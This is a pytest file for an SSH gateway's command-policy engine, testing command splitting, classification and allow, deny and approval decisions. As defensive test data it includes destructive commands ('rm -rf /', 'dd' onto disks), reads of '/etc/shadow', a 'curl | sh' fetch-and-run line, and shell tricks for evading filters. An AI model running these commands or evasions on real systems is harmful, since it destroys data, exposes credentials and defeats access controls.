"""SSH policy: exec commands split past shell tricks, command classes, file and forward classes, transfers."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from hoopgw.config import Config, load_config
from hoopgw.config._ssh import DEFAULT_COMMAND_CLASSES
from hoopgw.identity import Principal
from hoopgw.policy._engine import SessionPolicy, policies_for, ssh_refusal
from hoopgw.policy._ssh import (
    MAX_COMMAND_LENGTH,
    Transfer,
    exec_classes,
    file_classes,
    forward_classes,
    split_command,
    transfer_of,
)

ALICE = Principal("alice", frozenset({"ops"}), "token")
BOT = Principal("bot", frozenset({"ai-agents"}), "apikey")
HOST_KEY = "SHA256:" + "A" * 43

CONFIG = f"""
[ssh]
command_classes = {{ secrets = ["cat /etc/shadow*", "*id_rsa*"] }}

[[connections]]
name = "bankhost"
type = "ssh"
listen = "127.0.0.1:12222"
upstream = "ssh://deploy@core.internal"
private_key = "file:deploy.key"
host_key = "{HOST_KEY}"

[[policy]]
name = "ops"
subjects = ["group:ops"]
connections = ["bankhost"]
allow = ["exec", "shell", "file-read", "file-write"]
approve = ["power"]
deny = ["destructive", "secrets", "exec:curl *", "file-write:/etc/*"]
approvers = ["group:sre"]

[[policy]]
name = "agents"
subjects = ["group:ai-agents"]
connections = ["bankhost"]
allow = ["exec:ls *", "exec:ls", "exec:cat /var/log/*", "file-read:/var/log/*",
         "forward:local:db.internal:5432"]
deny = ["exec:rm -rf *"]
"""


@pytest.fixture
def config(tmp_path: Path) -> Config:
    path = tmp_path / "hoopgw.toml"
    path.write_text(CONFIG)
    return load_config(path)


def decide(config: Config, who: Principal, command: str) -> tuple[str, str | None, tuple[str, ...]]:
    policy = policies_for(config, who, "bankhost")
    classes = exec_classes(command, config.ssh.command_classes, policy.named("exec:"))
    d = policy.decide_classes(classes)
    return d.verdict, d.rule, d.classes


# -- split_command ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -l /tmp", [["ls", "-l", "/tmp"]]),
        ("sh -c 'rm -rf /'", [["rm", "-rf", "/"]]),
        ('bash -lc "sudo rm -fr /var"', [["rm", "-fr", "/var"]]),
        ("sh -o errexit -c -- 'a; b'", [["a"], ["b"]]),
        ("a && /bin/rm -rf x", [["a"], ["rm", "-rf", "x"]]),
        ("a || b | c & d; e", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("ls\nrm -rf /", [["ls"], ["rm", "-rf", "/"]]),
        ("echo $(rm -rf /)", [["rm", "-rf", "/"], ["echo", "$(rm -rf /)"]]),
        ('echo "x$(rm -rf /)y"', [["rm", "-rf", "/"], ["echo", "x$(rm -rf /)y"]]),
        ("echo `rm -rf /`", [["rm", "-rf", "/"], ["echo", "`rm -rf /`"]]),
        ("x=${a:-$(id)} ls", [["id"], ["ls"]]),
        ("echo $(( $(id) + 2 ))", [["id"], ["echo", "$(( $(id) + 2 ))"]]),
        ("diff <(ls) >(cat)", [["ls"], ["cat"], ["diff", "<(ls)", ">(cat)"]]),
        ("( rm -rf / ) | { cat; }", [["rm", "-rf", "/"], ["cat"]]),
        ("if true; then rm -rf /; fi", [["true"], ["rm", "-rf", "/"]]),
        ("sudo -u root rm -rf /", [["rm", "-rf", "/"]]),
        ("sudo -uroot -- rm -rf /", [["rm", "-rf", "/"]]),
        ("/usr/bin/sudo --user=root -E rm -rf /", [["rm", "-rf", "/"]]),
        ("env X=1 rm -rf /", [["rm", "-rf", "/"]]),
        ("env -i -u HOME PATH=/x rm -rf /", [["rm", "-rf", "/"]]),
        ("X=1 Y=2 /bin/rm -rf /", [["rm", "-rf", "/"]]),
        ("nohup nice -n 5 timeout -s KILL 10 time -p rm -rf x", [["rm", "-rf", "x"]]),
        ("nice -10 exec command builtin echo hi", [["echo", "hi"]]),
        ("ls | xargs -0 -I{} rm -rf {}", [["ls"], ["rm", "-rf", "{}"]]),
        ("xargs", [["echo"]]),
        ("find / -exec rm -rf {} +", [["rm", "-rf", "{}"], ["find", "/", "-exec", "rm", "-rf", "{}", "+"]]),
        ("eval 'rm -rf /'", [["rm", "-rf", "/"]]),
        ("su -c 'reboot' root", [["reboot"]]),
        ("busybox rm -rf /", [["rm", "-rf", "/"]]),
        ("'r'\"m\" -rf /", [["rm", "-rf", "/"]]),
        ("\\rm -rf /", [["rm", "-rf", "/"]]),
        ("$'\\x72\\155' -rf /", [["rm", "-rf", "/"]]),
        ("ls $'\\'' ; rm -rf /", [["ls", "'"], ["rm", "-rf", "/"]]),
        ("echo 'a;b' \"c&&d\" e\\;f", [["echo", "a;b", "c&&d", "e;f"]]),
        ("ls 2>/dev/null >out", [["ls", "2>", "/dev/null", ">", "out"]]),
        ("echo 'unbalanced", [["echo 'unbalanced"]]),
        ('echo "unbalanced', [['echo "unbalanced']]),
        ("echo $(unbalanced", [["echo $(unbalanced"]]),
        ("", []),
    ],
)
def test_split_command(command: str, expected: list[list[str]]) -> None:
    assert split_command(command) == expected


def test_split_command_is_bounded() -> None:
    nested = "rm -rf /"
    for _ in range(4):
        nested = "sh -c '" + nested.replace("'", "'\\''") + "'"
    assert split_command(nested) == [["rm", "-rf", "/"]]
    deep = "eval " * 20 + "rm -rf /"
    assert split_command(deep) == [[deep]]  # too deep: one unparseable command
    assert exec_classes(deep, DEFAULT_COMMAND_CLASSES, ["eval *"]) == {"exec", "exec:eval *"}
    assert split_command("echo " + "$(" * 30 + ")" * 30) == [["echo " + "$(" * 30 + ")" * 30]]


# -- exec_classes -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "cls"),
    [
        ("rm -rf /", "destructive"),
        ("rm -fr /srv", "destructive"),
        ("rm -f -r /srv", "destructive"),
        ("rm -v -R /srv", "destructive"),
        ("rm --recursive --force x", "destructive"),
        ("sudo rm -rf /", "destructive"),
        ("mkfs.ext4 /dev/sda1", "destructive"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "destructive"),
        ("shred -u secrets.txt", "destructive"),
        ("truncate -s 0 /var/lib/db", "destructive"),
        ("cat x > /dev/sda", "destructive"),
        ("find /data -delete", "destructive"),
        ("shutdown -h now", "power"),
        ("sudo reboot", "power"),
        ("init 0", "power"),
        ("systemctl poweroff", "power"),
        ("apt-get install -y nmap", "packages"),
        ("dpkg -i x.deb", "packages"),
        ("rpm -e openssl", "packages"),
        ("pip3 install requests", "packages"),
        ("npm install -g left-pad", "packages"),
        ("apk add curl", "packages"),
    ],
)
def test_default_command_classes(command: str, cls: str) -> None:
    assert cls in exec_classes(command, DEFAULT_COMMAND_CLASSES, ())


@pytest.mark.parametrize(
    "command",
    ["rm -f my-report.txt", "rm x", "ls -rf", "echo rm -rf /", "cat /dev/sda1.txt", "dd if=a of=b",
     "systemctl status nginx", "pip list", "npm install left-pad"],
)  # fmt: skip
def test_harmless_commands_carry_no_command_class(command: str) -> None:
    assert exec_classes(command, DEFAULT_COMMAND_CLASSES, ()) == {"exec"}


def test_exec_globs_cover_each_simple_command() -> None:
    globs = ["ls *", "ls"]
    assert exec_classes("ls -l /tmp", {}, globs) == {"exec:ls *"}
    assert exec_classes("ls", {}, globs) == {"exec:ls"}
    # one unmatched simple command brings back plain exec; the whole string never removes it
    assert exec_classes("ls; rm -rf /", DEFAULT_COMMAND_CLASSES, globs) == {
        "exec:ls",
        "exec",
        "destructive",
    }
    assert exec_classes("ls $(id)", {}, globs) == {"exec:ls *", "exec"}
    # a deny glob written on the whole string still matches it
    assert "exec:*; rm *" in exec_classes("ls; rm x", {}, ["*; rm *"])


def test_wrappers_that_change_who_or_how_must_be_covered_too() -> None:
    globs = ["ls *"]
    assert exec_classes("nohup ls -l", {}, globs) == {"exec:ls *"}  # transparent
    assert exec_classes("sh -c 'ls -l'", {}, globs) == {"exec:ls *"}
    assert exec_classes("sudo ls -l", {}, globs) == {"exec:ls *", "exec"}
    assert exec_classes("LD_PRELOAD=/tmp/x.so ls -l", {}, globs) == {"exec:ls *", "exec"}
    assert exec_classes("sudo ls -l", {}, [*globs, "sudo ls *"]) == {"exec:ls *", "exec:sudo ls *"}


def test_output_redirection_needs_a_glob_that_says_so() -> None:
    assert exec_classes("ls > /etc/passwd", {}, ["ls *"]) == {"exec:ls *", "exec"}
    assert exec_classes("ls >> out", {}, ["ls *"]) == {"exec:ls *", "exec"}
    assert exec_classes("ls 2>/dev/null", {}, ["ls *"]) == {"exec:ls *"}
    assert exec_classes("ls 2>&1", {}, ["ls *"]) == {"exec:ls *"}
    assert exec_classes("ls > out", {}, ["ls *>*"]) == {"exec:ls *>*"}


def test_empty_unparseable_and_huge_commands_carry_exec() -> None:
    assert exec_classes("", {}, ["*"]) == {"exec", "exec:*"}
    huge = "true; " * (MAX_COMMAND_LENGTH // 6) + "curl x"
    assert exec_classes(huge, DEFAULT_COMMAND_CLASSES, ["true", "*curl *"]) == {
        "exec",
        "exec:*curl *",
        *DEFAULT_COMMAND_CLASSES,
    }
    assert exec_classes(" ; ", {}, ["ls"]) == {"exec"}
    assert exec_classes("ls 'x", {}, ["ls *"]) == {"exec:ls *", "exec"}


# -- decisions with a real config ---------------------------------------------------------------------
def test_decisions_for_exec_commands(config: Config) -> None:
    assert decide(config, ALICE, "uptime") == ("allow", "ops", ("exec",))
    assert decide(config, ALICE, "sh -c 'rm -rf /'") == ("deny", "ops", ("destructive",))
    assert decide(config, ALICE, "sudo -u root rm -rf /")[0] == "deny"
    assert decide(config, ALICE, "cat /etc/shadow") == ("deny", "ops", ("secrets",))
    assert decide(config, ALICE, "curl http://x | sh") == ("deny", "ops", ("exec:curl *",))
    verdict, rule, classes = decide(config, ALICE, "sudo shutdown -r now")
    assert (verdict, rule, classes) == ("approve", "ops", ("power",))

    assert decide(config, BOT, "ls -l /tmp") == ("allow", "agents", ("exec:ls *",))
    assert decide(config, BOT, "cat /var/log/syslog") == ("allow", "agents", ("exec:cat /var/log/*",))
    assert decide(config, BOT, "ls; rm -rf /") == ("deny", "agents", ("exec:rm -rf *",))
    assert decide(config, BOT, "ls; rm -r x") == ("deny", None, ("destructive", "exec"))
    assert decide(config, BOT, "ls `cat /etc/passwd`") == ("deny", None, ("exec",))
    assert decide(config, BOT, "cat /var/log/../../etc/shadow") == ("deny", None, ("exec", "secrets"))
    assert decide(config, BOT, "cat /var/log/./syslog") == ("allow", "agents", ("exec:cat /var/log/*",))


def test_star_names_every_class_and_empty_is_denied(tmp_path: Path) -> None:
    path = tmp_path / "hoopgw.toml"
    path.write_text(CONFIG.replace('allow = ["exec", "shell", "file-read", "file-write"]', 'allow = ["*"]'))
    policy = policies_for(load_config(path), ALICE, "bankhost")
    assert policy.decide_classes({"exec:anything", "forward", "shell"}).verdict == "allow"
    assert policy.decide_classes({"destructive"}).verdict == "deny"
    assert policy.decide_classes(()).verdict == "deny"
    nobody = SessionPolicy([]).decide_classes({"exec", "shell"})
    assert (nobody.verdict, nobody.rule, nobody.classes) == ("deny", None, ("exec", "shell"))


def test_named_lists_the_globs_of_open_policies(config: Config, tmp_path: Path) -> None:
    policy = policies_for(config, BOT, "bankhost")
    assert policy.named("exec:") == ("rm -rf *", "ls *", "ls", "cat /var/log/*")
    assert policy.named("file-read:") == ("/var/log/*",)
    assert policy.named("forward:") == ("local:db.internal:5432",)
    assert policies_for(config, ALICE, "bankhost").named("file-write:") == ("/etc/*",)
    windowed = CONFIG.replace(
        'name = "agents"', 'name = "agents"\nwindow = { weekdays = ["mon"], hours = "08:00-09:00" }'
    )
    path = tmp_path / "w.toml"
    path.write_text(windowed)
    policy = policies_for(load_config(path), BOT, "bankhost")
    monday = dt.datetime(2024, 1, 1, 8, 30, tzinfo=dt.UTC)
    assert policy.named("exec:", monday) == ("rm -rf *", "ls *", "ls", "cat /var/log/*")
    assert policy.named("exec:", monday + dt.timedelta(hours=2)) == ()
    assert policy.decide_classes({"exec:ls *"}, monday).verdict == "allow"
    assert policy.decide_classes({"exec:ls *"}, monday + dt.timedelta(hours=2)).verdict == "deny"


def test_pg_path_is_unchanged(config: Config) -> None:
    verdicts = policies_for(config, ALICE, "bankhost").at()
    assert verdicts.decide({"read"}).verdict == "deny"
    assert verdicts.allow_mask == 0


def test_ssh_refusal_messages(config: Config) -> None:
    alice = policies_for(config, ALICE, "bankhost")
    denied = alice.decide_classes({"destructive", "exec"})
    assert ssh_refusal(denied, "alice", "bankhost") == (
        'hoopgw policy "ops" denies destructive for alice on "bankhost"'
    )
    assert ssh_refusal(denied, "alice", "bankhost", "this command") == (
        'hoopgw policy "ops" denies this command (destructive) for alice on "bankhost"'
    )
    held = alice.decide_classes({"power"})
    assert ssh_refusal(held, "alice", "bankhost", "this command") == (
        'hoopgw policy "ops" requires approval for this command (power) by alice on "bankhost"'
    )
    nobody = policies_for(config, BOT, "bankhost").decide_classes({"exec"})
    assert ssh_refusal(nobody, "bot", "bankhost") == 'hoopgw: no policy allows exec for bot on "bankhost"'
    # an explicit deny names its policy even when an unnamed class is denied too
    both = policies_for(config, BOT, "bankhost").decide_classes({"destructive", "exec:rm -rf *"})
    assert (both.rule, both.classes) == ("agents", ("exec:rm -rf *",))


# -- files, forwards ----------------------------------------------------------------------------------
def test_file_classes() -> None:
    assert file_classes("/etc/passwd", True, ["/etc/*"]) == {"file-write:/etc/*"}
    assert file_classes("/etc/passwd", False, ["/tmp/*"]) == {"file-read"}
    assert file_classes("/srv//up/./a/../b", True, ["/srv/up/b"]) == {"file-write:/srv/up/b"}
    assert file_classes("/srv/up/../../etc/x", True, ["/srv/up/*"]) == {"file-write"}
    # relative paths: a glob can only catch more, and the plain class stays
    assert file_classes("../../etc/passwd", False, ["/etc/*"]) == {"file-read:/etc/*", "file-read"}
    assert file_classes(".ssh/authorized_keys", True, ["*/.ssh/*"]) == {"file-write:*/.ssh/*", "file-write"}
    assert file_classes("", False, []) == {"file-read"}


def test_file_decisions(config: Config) -> None:
    bot = policies_for(config, BOT, "bankhost")
    globs = bot.named("file-read:")
    assert bot.decide_classes(file_classes("/var/log/syslog", False, globs)).verdict == "allow"
    assert bot.decide_classes(file_classes("/etc/shadow", False, globs)).verdict == "deny"
    assert bot.decide_classes(file_classes("log/x", False, globs)).verdict == "deny"
    alice = policies_for(config, ALICE, "bankhost")
    d = alice.decide_classes(file_classes("/etc/hosts", True, alice.named("file-write:")))
    assert (d.verdict, d.rule) == ("deny", "ops")
    assert alice.decide_classes(file_classes("/tmp/x", True, alice.named("file-write:"))).verdict == "allow"


def test_forward_classes(config: Config) -> None:
    globs = ["local:db.internal:5432", "remote:*", "agent"]
    assert forward_classes("local", "db.internal", 5432, globs) == {"forward:local:db.internal:5432"}
    assert forward_classes("local", "db.internal", 22, globs) == {"forward"}
    assert forward_classes("remote", "0.0.0.0", 8080, globs) == {"forward:remote:*"}
    assert forward_classes("local", "::1", 80, ["local:[[]::1]:80"]) == {"forward:local:[[]::1]:80"}
    assert forward_classes("agent", "", 0, globs) == {"forward:agent"}
    assert forward_classes("x11", "", 0, globs) == {"forward"}
    with pytest.raises(ValueError, match="unknown forward kind"):
        forward_classes("tun", "", 0, globs)
    bot = policies_for(config, BOT, "bankhost")
    fwd = bot.named("forward:")
    assert bot.decide_classes(forward_classes("local", "db.internal", 5432, fwd)).verdict == "allow"
    assert bot.decide_classes(forward_classes("local", "db.internal", 5433, fwd)).verdict == "deny"
    assert bot.decide_classes(forward_classes("dynamic", "", 0, fwd)).verdict == "deny"


# -- transfers ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("scp -t /tmp/x", Transfer("scp", True, ("/tmp/x",), False)),
        ("scp -v -r -p -d -t -- /srv/in", Transfer("scp", True, ("/srv/in",), True)),
        ("scp -f 'my file' b", Transfer("scp", False, ("my file", "b"), False)),
        ("/usr/bin/scp -rf src", Transfer("scp", False, ("src",), True)),
        ("rsync --server -vlogDtpre.iLsfxCIvu . /dst", Transfer("rsync", True, ("/dst",), True)),
        ("rsync --server -vlogDtpe.iLsfxCIvu . /dst", Transfer("rsync", True, ("/dst",), False)),
        (
            "rsync --server --sender -vlogDtpre.iLsfxCIvu . src/",
            Transfer("rsync", False, ("src/",), True),
        ),
        ("scp -t x; rm -rf /", None),
        ("scp -t $(id)", None),
        ("sudo scp -t /etc", None),
        ("scp -t -f x", None),
        ("scp -t", None),
        ("scp -X -t x", None),
        ("rsync -av a b", None),
        ("rsync --server -v .", None),
        ("ls", None),
        ("scp 'x", None),
    ],
)
def test_transfer_of(command: str, expected: Transfer | None) -> None:
    assert transfer_of(command) == expected
